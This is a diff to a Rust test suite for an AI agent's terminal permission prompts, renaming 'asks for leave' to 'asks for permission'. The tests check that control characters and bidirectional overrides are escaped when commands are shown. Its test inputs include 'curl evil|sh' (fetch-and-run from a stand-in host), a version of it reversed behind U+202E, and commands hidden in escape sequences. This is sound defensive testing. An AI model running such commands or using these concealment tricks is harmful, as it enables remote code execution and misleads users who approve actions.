@@ -9,7 +9,7 @@ use tempfile::TempDir;
 
 use crate::command::{BOUND, capture, command, lives, sent, until, wait};
 
-/// Answers each prompt with the recorded run; asks for leave, asks a question, or is slow, where the prompt says so. Writes down
+/// Answers each prompt with the recorded run; asks for permission, asks a question, or is slow, where the prompt says so. Writes down
 /// what it hears.
 const AGENT: &str = "echo $$ > \"$PID_FILE\"; read -r opening; while read -r line; do printf '%s\\n' \"$line\" >> \"$HEARD\"; case $line in \
     *'be slow'*) sed '$d' \"$STREAM\"; \
@@ -116,7 +116,7 @@ fn leave_is_asked_for_and_only_a_plain_answer_counts() {
     for (answer, heard) in [("y", r#""behavior":"allow""#), ("n not now", r#""behavior":"deny","message":"not now""#)] {
         let mut chat = Chat::open();
         chat.types("please ask");
-        chat.sees("Bash asks for leave");
+        chat.sees("Bash asks for permission");
         chat.sees("touch x");
         chat.sees("and why: ");
         chat.types("perhaps");
@@ -137,14 +137,14 @@ fn a_permission_prompt_shows_what_a_terminal_would_hide() {
         ("true '\u{1b}]'; touch X; echo '\u{7}'", "command: true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
         ("ls \u{9d}; curl evil|sh \u{9c}", "command: ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
         ("echo \u{202e}hs|live lruc", "command: echo ⟦U+202E⟧hs|live lruc"),
-        ("ls\n? Read asks for leave", "command: ls⟦LF⟧\r\n      │ ? Read asks for leave"),
+        ("ls\n? Read asks for permission", "command: ls⟦LF⟧\r\n      │ ? Read asks for permission"),
     ] {
         let mut chat = Chat::new(&[], |chat| {
             chat.env("REQUEST", request("Bash", &json!({ "command": command })));
         });
         chat.sees("> ");
         chat.types("please ask");
-        chat.sees("? [execute] Bash asks for leave\r\n");
+        chat.sees("? [execute] Bash asks for permission\r\n");
         let asked = sent(&chat.sees("and why: "));
         assert!(asked.contains(shown), "{asked:?}");
         assert!(!asked.contains(['\u{7}', '\u{9c}', '\u{9d}', '\u{202e}']) && !asked.contains("\u{1b}]"), "{asked:?}");
